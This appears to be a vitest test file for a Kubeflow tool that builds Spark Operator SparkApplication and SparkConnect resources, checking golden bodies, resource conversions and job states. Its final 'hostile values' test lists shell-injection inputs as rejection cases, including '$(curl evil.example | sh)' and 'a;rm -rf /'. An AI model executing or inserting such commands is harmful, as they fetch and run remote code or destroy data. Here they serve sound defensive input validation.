/**
 * SparkApplication and SparkConnect bodies against SDK 0.5.0 SparkClient (docs/wire/spark.md): the
 * worked examples byte for byte (key order included), the resource conversions, and every body
 * valid against the Spark Operator v2.4.0 CRDs with unknown fields refused.
 */
import { describe, expect, it } from 'vitest';
import { buildSparkApplication, buildSparkConnect } from '../../src/kubeflow/spark/build.js';
import { sparkCores, sparkMemory, sparkResources } from '../../src/kubeflow/spark/resources.js';
import { driverPodName, isFinal, jobStatus, sdkStatus, sessionAddress, sessionState } from '../../src/kubeflow/spark/status.js';
import { appType } from '../../src/tools/spark/submit.js';
import { SparkError } from '../../src/kubeflow/spark/errors.js';
import { thrown } from '../support/thrown.js';
import { validateSpark } from '../support/spark.js';

describe('SparkApplication (spec §9.4 worked example)', () => {
  // SparkClient(KubernetesBackendConfig(namespace="team-a")).submit_job(FileJob("s3a://demo-bucket/jobs/daily_counts.py",
  //   args=[...]), num_executors=2, resources_per_executor={"cpu": "2", "memory": "2Gi"}, spark_conf={"spark.sql.shuffle.partitions": "8"})
  const golden =
    '{"apiVersion":"sparkoperator.k8s.io/v1beta2","kind":"SparkApplication","metadata":{"name":"spark-job-3f2a9c1e","namespace":"team-a"},"spec":{"arguments":["--input","s3a://demo-bucket/events/","--date","2026-08-21"],"driver":{"cores":1,"memory":"512m","serviceAccount":"spark-operator-spark"},"executor":{"cores":2,"instances":2,"memory":"2g"},"image":"apache/spark:4.0.4","mainApplicationFile":"s3a://demo-bucket/jobs/daily_counts.py","mode":"cluster","sparkConf":{"spark.sql.shuffle.partitions":"8"},"sparkVersion":"4.0.4","type":"Python"}}';

  it('is the SDK body byte for byte', () => {
    const app = buildSparkApplication({
      name: 'spark-job-3f2a9c1e',
      namespace: 'team-a',
      mainApplicationFile: 's3a://demo-bucket/jobs/daily_counts.py',
      arguments: ['--input', 's3a://demo-bucket/events/', '--date', '2026-08-21'],
      numExecutors: 2,
      executorResources: { cpu: '2', memory: '2Gi' },
      sparkConf: { 'spark.sql.shuffle.partitions': '8' },
    });
    expect(JSON.stringify(app)).toBe(golden);
    expect(validateSpark(app)).toEqual([]);
  });

  it('defaults like the SDK: one executor of 1 core / 512m, no arguments or sparkConf keys', () => {
    const app = buildSparkApplication({
      name: 'spark-job-00000000',
      namespace: 'default',
      mainApplicationFile: 'local:///opt/spark/examples/src/main/python/pi.py',
      arguments: [],
      sparkConf: {},
    });
    expect(app.spec).toEqual({
      driver: { cores: 1, memory: '512m', serviceAccount: 'spark-operator-spark' },
      executor: { cores: 1, instances: 1, memory: '512m' },
      image: 'apache/spark:4.0.4',
      mainApplicationFile: 'local:///opt/spark/examples/src/main/python/pi.py',
      mode: 'cluster',
      sparkVersion: '4.0.4',
      type: 'Python',
    });
    expect(validateSpark(app)).toEqual([]);
  });

  it('adds what the SDK cannot send only when asked: JVM main class, deps, dynamic allocation, driver resources, env from Secrets, labels', () => {
    const app = buildSparkApplication({
      name: 'pi',
      namespace: 'team-a',
      mainApplicationFile: 'local:///opt/spark/examples/jars/spark-examples.jar',
      type: 'Java',
      mainClass: 'org.apache.spark.examples.SparkPi',
      dynamicAllocation: { minExecutors: 1, maxExecutors: 8 },
      driverResources: { cpu: '500m', memory: '1.5Gi' },
      deps: { jars: ['s3a://libs/a.jar'], packages: ['org.apache.hadoop:hadoop-aws:3.4.1'], pyFiles: [] },
      env: { AWS_ACCESS_KEY_ID: 'secret:s3-creds/key', REGION: 'eu-west-1' },
      image: 'registry.local/spark:4.0.4-aws',
      serviceAccount: 'spark',
      labels: { team: 'a' },
      annotations: { 'kubeflow-mcp/created-by': 'alice' },
    });
    expect(app.metadata).toEqual({ annotations: { 'kubeflow-mcp/created-by': 'alice' }, labels: { team: 'a' }, name: 'pi', namespace: 'team-a' });
    expect(app.spec.deps).toEqual({ jars: ['s3a://libs/a.jar'], packages: ['org.apache.hadoop:hadoop-aws:3.4.1'] });
    expect(app.spec.dynamicAllocation).toEqual({ enabled: true, maxExecutors: 8, minExecutors: 1 });
    // Spark decides the executor count: none is fixed.
    expect(app.spec.executor).toEqual({ cores: 1, env: expect.any(Array), memory: '512m' });
    expect(app.spec.driver).toMatchObject({ cores: 1, memory: '1536m', serviceAccount: 'spark' });
    expect(app.spec.driver.env).toEqual([
      { name: 'AWS_ACCESS_KEY_ID', valueFrom: { secretKeyRef: { name: 's3-creds', key: 'key' } } },
      { name: 'REGION', value: 'eu-west-1' },
    ]);
    expect(JSON.stringify(app)).not.toContain('secret:');
    expect(app.spec.mainClass).toBe('org.apache.spark.examples.SparkPi');
    expect(validateSpark(app)).toEqual([]);
  });

  it('refuses what cannot run, naming the field: a JVM app without main class, bad dynamic allocation bounds', () => {
    expect(thrown(() => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.jar', type: 'Scala' }), SparkError)).toMatchObject({
      code: 'main_class_required',
      field: 'main_class',
    });
    expect(
      thrown(
        () => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', dynamicAllocation: { minExecutors: 5, maxExecutors: 2 } }),
        SparkError,
      ),
    ).toMatchObject({ code: 'invalid_dynamic_allocation' });
    expect(
      thrown(
        () => buildSparkApplication({ name: 'x', namespace: 'n', mainApplicationFile: 'a.py', numExecutors: 9, dynamicAllocation: { maxExecutors: 4 } }),
        SparkError,
      ),
    ).toMatchObject({ code: 'invalid_dynamic_allocation' });
  });

  it('infers the application type from the file instead of always sending Python', () => {
    expect(appType('s3a://b/job.py', undefined)).toBe('Python');
    expect(appType('local:///opt/app.jar', 'Main')).toBe('Java');
    expect(appType('https://x/app.R', undefined)).toBe('R');
    expect(appType('s3a://b/job', 'org.example.Main')).toBe('Java');
    expect(appType('s3a://b/job', undefined)).toBe('Python');
  });
});

describe('SparkConnect (spec §9.4, connect())', () => {
  // connect(num_executors=2, resources_per_executor={"cpu": "1", "memory": "1Gi"}, driver=Driver(service_account="spark-operator-spark"))
  const golden =
    '{"apiVersion":"sparkoperator.k8s.io/v1alpha1","kind":"SparkConnect","metadata":{"name":"spark-connect-5d0e7b21","namespace":"team-a"},"spec":{"executor":{"cores":1,"instances":2,"memory":"1g"},"image":"apache/spark:4.0.4","server":{"cores":1,"memory":"512m","template":{"spec":{"containers":[],"serviceAccountName":"spark-operator-spark"}}},"sparkConf":{"spark.jars":"https://repo1.maven.org/maven2/org/apache/spark/spark-connect_2.13/4.0.4/spark-connect_2.13-4.0.4.jar","spark.connect.grpc.binding.address":"0.0.0.0"},"sparkVersion":"4.0.4"}}';

  it('is the SDK body byte for byte', () => {
    const s = buildSparkConnect({
      name: 'spark-connect-5d0e7b21',
      namespace: 'team-a',
      numExecutors: 2,
      executorResources: { cpu: '1', memory: '1Gi' },
      serviceAccount: 'spark-operator-spark',
    });
    expect(JSON.stringify(s)).toBe(golden);
    expect(validateSpark(s)).toEqual([]);
  });

  it("appends the user's spark.jars after the connect jar and lets other keys override the binding address", () => {
    const s = buildSparkConnect({
      name: 's',
      namespace: 'n',
      sparkConf: { 'spark.jars': 's3a://x/y.jar', 'spark.connect.grpc.binding.address': '127.0.0.1', 'spark.sql.ansi.enabled': 'true' },
    });
    expect(Object.entries(s.spec.sparkConf!)).toEqual([
      ['spark.jars', 'https://repo1.maven.org/maven2/org/apache/spark/spark-connect_2.13/4.0.4/spark-connect_2.13-4.0.4.jar,s3a://x/y.jar'],
      ['spark.connect.grpc.binding.address', '127.0.0.1'],
      ['spark.sql.ansi.enabled', 'true'],
    ]);
    // No service account asked for: no server template (the SDK's body).
    expect(s.spec.server).toEqual({ cores: 1, memory: '512m' });
    expect(validateSpark(s)).toEqual([]);
  });

  it('uses the connect jar of the Spark version asked for', () => {
    const s = buildSparkConnect({ name: 's', namespace: 'n', sparkVersion: '4.0.1', dynamicAllocation: { maxExecutors: 3 } });
    expect(s.spec.sparkConf!['spark.jars']).toContain('/spark-connect_2.13/4.0.1/spark-connect_2.13-4.0.1.jar');
    expect(validateSpark(s)).toEqual([]);
  });

  it('the CRD check catches what the API server would prune', () => {
    const s = buildSparkConnect({ name: 's', namespace: 'n' });
    expect(validateSpark({ ...s, spec: { ...s.spec, driver: { cores: 1 } } } as never)).toEqual([expect.stringContaining("'driver'")]);
  });
});

describe('resources, as the SDK converts them', () => {
  it.each([
    ['2', 2],
    [2, 2],
    ['2.5', 3],
    ['500m', 1],
    ['1500m', 2],
    [0.1, 1],
  ])('cpu %j -> %d cores (rounded up)', (v, want) => expect(sparkCores(v, 'cpu')).toBe(want));

  it.each([
    ['4Gi', '4g'],
    ['512Mi', '512m'],
    ['2G', '2g'],
    ['2g', '2g'],
    ['1.5Gi', '1536m'],
    ['1Ei', `${1024 ** 4}m`],
    ['64Ki', '64k'],
    ['0.5Ki', '1m'],
    ['3gb', '3g'],
  ])('memory %j -> %j', (v, want) => expect(sparkMemory(v, 'memory')).toBe(want));

  it('refuses what the SDK would pass through or drop, with the field', () => {
    expect(thrown(() => sparkCores('0', 'executor_resources.cpu'), SparkError)).toMatchObject({ code: 'invalid_cpu', field: 'executor_resources.cpu' });
    expect(thrown(() => sparkCores('2000', 'cpu'), SparkError)).toMatchObject({ code: 'invalid_cpu' });
    expect(thrown(() => sparkCores('lots', 'cpu'), SparkError)).toMatchObject({ code: 'invalid_cpu' });
    expect(thrown(() => sparkMemory('1024', 'memory'), SparkError)).toMatchObject({ code: 'invalid_memory' });
    expect(thrown(() => sparkMemory('a lot', 'memory'), SparkError)).toMatchObject({ code: 'invalid_memory' });
    expect(thrown(() => sparkResources({ cpu: 1, 'nvidia.com/gpu': 1 } as never, 'executor_resources'), SparkError)).toMatchObject({
      code: 'unsupported_resource',
      field: 'executor_resources.nvidia.com/gpu',
    });
  });
});

describe('states (spec §8.6, §9.2)', () => {
  it.each([
    ['', 'Created', 'Created'],
    ['SUBMITTED', 'Created', 'Created'],
    ['RUNNING', 'Running', 'Running'],
    ['SUCCEEDING', 'Running', 'Running'],
    ['COMPLETED', 'Completed', 'Completed'],
    ['FAILED', 'Failed', 'Failed'],
    ['SUBMISSION_FAILED', 'Failed', 'Failed'],
    // Where the SDK folds: a retry, an invalidated spec and an unknown driver are not failures,
    // a suspended app is not running.
    ['FAILING', 'Failing', 'Failed'],
    ['PENDING_RERUN', 'Retrying', 'Failed'],
    ['INVALIDATING', 'Retrying', 'Failed'],
    ['UNKNOWN', 'Unknown', 'Failed'],
    ['SUSPENDING', 'Suspended', 'Running'],
    ['SUSPENDED', 'Suspended', 'Running'],
    ['RESUMING', 'Running', 'Running'],
    ['SOMETHING_NEW', 'Unknown', 'Failed'],
  ])('%s -> %s (SDK: %s)', (state, ours, sdk) => {
    expect(jobStatus(state)).toBe(ours);
    expect(sdkStatus(state)).toBe(sdk);
  });

  it('only COMPLETED, FAILED and SUBMISSION_FAILED end a wait', () => {
    expect(['COMPLETED', 'FAILED', 'SUBMISSION_FAILED', 'PENDING_RERUN', 'UNKNOWN', 'FAILING', 'SUSPENDED'].filter(isFinal)).toEqual([
      'COMPLETED',
      'FAILED',
      'SUBMISSION_FAILED',
    ]);
  });

  it('finds the driver pod as the operator names it', () => {
    const base = {
      apiVersion: 'x',
      kind: 'SparkApplication',
      metadata: { name: 'app' },
      spec: { driver: {}, executor: {}, mainApplicationFile: 'a', sparkVersion: '4', type: 'Python' as const },
    };
    expect(driverPodName(base)).toBe('app-driver');
    expect(driverPodName({ ...base, spec: { ...base.spec, sparkConf: { 'spark.kubernetes.driver.pod.name': 'custom' } } })).toBe('custom');
    expect(driverPodName({ ...base, spec: { ...base.spec, driver: { podName: 'mine' } } })).toBe('mine');
  });

  it('reads sessions as the SDK does and builds the address from the service', () => {
    const s = { metadata: { name: 's', namespace: 'team-a' }, spec: { executor: {}, server: {}, sparkVersion: '4.0.4' } };
    expect(sessionState({})).toBe('Provisioning');
    expect(sessionState({ status: { state: 'NotReady' } })).toBe('NotReady');
    expect(sessionAddress(s)).toEqual({});
    expect(sessionAddress({ ...s, status: { state: 'Ready', server: { serviceName: 's-server' } } })).toEqual({
      inCluster: 'sc://s-server.team-a.svc.cluster.local:15002',
      portForward: 'kubectl port-forward -n team-a svc/s-server 15002:15002',
      local: 'sc://localhost:15002',
    });
  });
});

describe('hostile values', () => {
  it.each([['$(curl evil.example | sh)'], ['a;rm -rf /'], ['`id`'], ['x && y'], ['two words'], ["it's"], ['a\nb']])(
    "a session setting %j is refused, not passed to the operator's shell",
    (v) => {
      expect(thrown(() => buildSparkConnect({ name: 's', namespace: 'n', sparkConf: { 'spark.sql.x': v } }), SparkError)).toMatchObject({
        code: 'unsafe_spark_conf',
        field: 'spark_conf.spark.sql.x',
      });
    },
  );

  it('plain values pass, and job settings (no shell in the way) are not restricted', () => {
    expect(
      buildSparkConnect({
        name: 's',
        namespace: 'n',
        sparkConf: {
          'spark.jars': 's3a://b/x.jar,https://repo/y.jar',
          'spark.executor.memoryOverhead': '512m',
          'spark.hadoop.fs.s3a.endpoint': 'http://minio:9000',
        },
      }).spec.sparkConf,
    ).toBeDefined();
    expect(
      buildSparkApplication({ name: 'j', namespace: 'n', mainApplicationFile: 'a.py', sparkConf: { 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' } }).spec
        .sparkConf,
    ).toEqual({ 'spark.driver.extraJavaOptions': '-Da=b -Dc=d' });
  });
});
